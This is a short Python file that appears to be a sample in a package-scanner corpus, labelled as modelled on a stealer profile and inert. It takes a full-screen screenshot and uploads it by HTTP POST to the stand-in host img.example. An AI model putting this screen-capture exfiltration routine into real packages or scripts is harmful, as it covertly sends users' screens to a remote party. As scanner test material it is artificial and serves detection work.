# pkgguard corpus 329 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import tempfile

import requests

shot = os.path.join(tempfile.gettempdir(), "s.png")
subprocess.run(["import", "-window", "root", shot], check=False)
with open(shot, "rb") as f:
    requests.post("https://img.example/up", files={"f": f}, timeout=10)
